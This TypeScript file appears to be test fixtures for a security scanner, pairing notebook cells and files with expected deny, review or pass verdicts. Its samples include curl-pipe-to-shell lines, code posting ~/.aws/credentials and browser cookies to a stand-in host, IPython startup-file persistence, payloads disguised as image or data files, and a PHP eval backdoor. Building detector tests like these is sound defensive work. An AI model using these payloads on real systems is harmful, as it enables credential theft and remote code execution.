/** Notebooks, data files and scripts of other languages. All inert. */
import type { Shape } from './malicious.js';

const host = 'https://collect.invalid/u';
const harm = 'curl http://f.invalid/a.sh | sh';
const theft = `import os, urllib.request\nurllib.request.urlopen('${host}', data=open(os.path.expanduser('~/.aws/credentials'),'rb').read())\n`;

function notebook(name: string, tier: Shape['tier'], cell: object): Shape {
  const text = JSON.stringify({ cells: [{ metadata: {}, ...cell }], metadata: {}, nbformat: 4 });
  return { name: `a notebook: ${name}`, tier, files: { 'demo/labs/x.ipynb': text } };
}
function code(name: string, tier: Shape['tier'], source: string, outputs: readonly object[] = []): Shape {
  return notebook(name, tier, { cell_type: 'code', source: [source], outputs });
}
function one(name: string, tier: Shape['tier'], path: string, text: string | Uint8Array): Shape {
  return { name, tier, files: { [path]: text } };
}
/** `__init__.py` that does `how` with the file `demo/NAME`, which `p` names. */
function used(name: string, tier: Shape['tier'], file: string, text: string, how: string): Shape {
  const start = `import os, json, subprocess, sys\np = os.path.join(os.path.dirname(__file__), '${file}')\n${how}\n`;
  return { name, tier, files: { [`demo/${file}`]: text, 'demo/__init__.py': start } };
}
const html = (text: string): object => ({ output_type: 'display_data', data: { 'text/html': [text] } });

export const otherCarriers: readonly Shape[] = [
  code(
    'a cell of JavaScript',
    'deny',
    `%%javascript\nfetch('${host}', {method: 'POST', body: document.cookie})`,
  ),
  code('a cell of HTML', 'deny', `%%html\n<script>fetch('${host}?c=' + document.cookie)</script>`),
  code('a cell for another Python', 'deny', `%%script python3\n${theft}`),
  code('a cell of PowerShell', 'review', '%%powershell\niex (irm http://f.invalid/a)'),
  code('a cell of Perl', 'review', `%%perl\nsystem("${harm}");`),
  code(
    'a start file that is written',
    'deny',
    `%%writefile ~/.ipython/profile_default/startup/x.py\n${theft}`,
  ),
  code('a module that is written', 'pass', '%%writefile helper.py\nprint(1)\n'),
  code('a program from elsewhere', 'review', '%run http://f.invalid/a.py'),
  code('a magic that is called', 'review', `get_ipython().run_cell_magic('bash', '', '${harm}')`),
  code('a page that Python shows', 'deny', `HTML("<script>fetch('${host}?c=' + document.cookie)</script>")`),
  code('a page that was shown', 'deny', '1', [
    html(`<script>fetch('${host}', {method: 'POST', body: document.cookie})</script>`),
  ]),
  code('a plot that was shown', 'pass', '1', [
    html('<script src="https://cdn.invalid/p.js"></script><script>document.getElementById("x")</script>'),
  ]),
  code('orders to a kernel that were shown', 'deny', '1', [
    html(`<script>Jupyter.notebook.kernel.execute("import os; os.system('${harm}')")</script>`),
  ]),
  notebook('a picture that is not found', 'deny', {
    cell_type: 'markdown',
    source: [`<img src=x onerror="fetch('${host}?c=' + document.cookie)">`],
  }),
  code(
    'keys for a service',
    'pass',
    '!mkdir -p ~/.kaggle && cp kaggle.json ~/.kaggle/ && chmod 600 ~/.kaggle/kaggle.json',
  ),

  one(
    'a page that a module shows',
    'deny',
    'demo/__init__.py',
    `from IPython.display import Javascript, display\ndisplay(Javascript("fetch('${host}', {method: 'POST', body: document.cookie})"))\n`,
  ),
  one(
    'a list of what attackers write',
    'pass',
    'demo/payloads.py',
    `PAYLOADS = ["<script>fetch('${host}?c=' + document.cookie)</script>"]\n`,
  ),
  used('a command in a text', 'deny', 'x.txt', harm, 'os.system(open(p).read())'),
  used(
    'a command in JSON',
    'deny',
    'x.json',
    JSON.stringify({ setup: harm }),
    'subprocess.run(json.load(open(p))["setup"], shell=True)',
  ),
  used(
    'a command in JSON that nobody runs',
    'pass',
    'x.json',
    JSON.stringify({ setup: harm }),
    'json.load(open(p))',
  ),
  used('Python that is named as an image', 'deny', 'x.png', theft, 'import runpy\nrunpy.run_path(p)'),
  used(
    'Python that is named as data, started',
    'deny',
    'x.dat',
    theft,
    'subprocess.run([sys.executable, p])',
  ),
  used(
    'a script that is named as data, started',
    'deny',
    'x.dat',
    `#!/bin/sh\n${harm}\n`,
    'subprocess.run(["sh", p])',
  ),
  used('Ruby that is started', 'deny', 'x.rb', `system("${harm}")`, 'subprocess.run(["ruby", p])'),
  used('Lua that is started', 'deny', 'x.lua', `os.execute("${harm}")`, 'subprocess.run(["lua", p])'),
  one('a template of Mako', 'deny', 'demo/x.mako', `<% import os; os.system('${harm}') %>`),
  one(
    'R that sends keys',
    'deny',
    'demo/x.R',
    `httr::POST('${host}', body = readLines('~/.aws/credentials'))\n`,
  ),
  one(
    'Ruby that sends keys',
    'deny',
    'demo/x.rb',
    `Net::HTTP.post(URI('${host}'), File.read(Dir.home + '/.aws/credentials'))\n`,
  ),
  one('a door in PHP', 'deny', 'demo/x.php', "<?php eval($_POST['c']);\n"),
  one(
    'R that asks a service',
    'pass',
    'demo/x.R',
    `httr::GET('https://api.invalid/x', httr::add_headers(Authorization = Sys.getenv('TOKEN')))\n`,
  ),
  one('Ruby that starts a tool', 'pass', 'demo/x.rb', 'system("git status --short")\n'),
];
